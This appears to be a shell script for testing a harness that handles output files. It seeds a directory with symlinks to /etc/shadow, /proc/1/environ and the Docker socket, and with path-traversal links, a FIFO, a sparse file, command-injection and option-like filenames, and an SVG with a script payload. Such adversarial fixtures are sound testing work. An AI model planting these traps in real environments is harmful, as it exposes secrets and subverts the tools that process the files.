# AIM: leave traps in the output directory itself: links out, a FIFO, a sparse file, names that are options, commands, paths and control characters, a loop.
cd "$OUTPUT_DIR" || exit 1
ln -s /etc/shadow output.txt; ln -s /etc/passwd passwd.txt; ln -s /proc/1/environ env.txt; ln -s /var/run/docker.sock s; ln -s / rootdir; ln -s loop loop
ln -s /dev/zero zero.png; mkfifo pipe.txt; truncate -s 1T sparse.bin 2>/dev/null || truncate -s 60M sparse.bin
printf x > "$(printf 'new\nline.txt')"; printf x > '-rf'; printf x > '$(touch pwned)'; printf x > '..\x'; printf '<svg onload=alert(1)>' > image.svg
mkdir -p a/b && ln -s ../../../../../../etc/passwd a/b/plot.png; ln -s .. a/up; ln image.svg a/hard.svg
echo TRAPS_SET
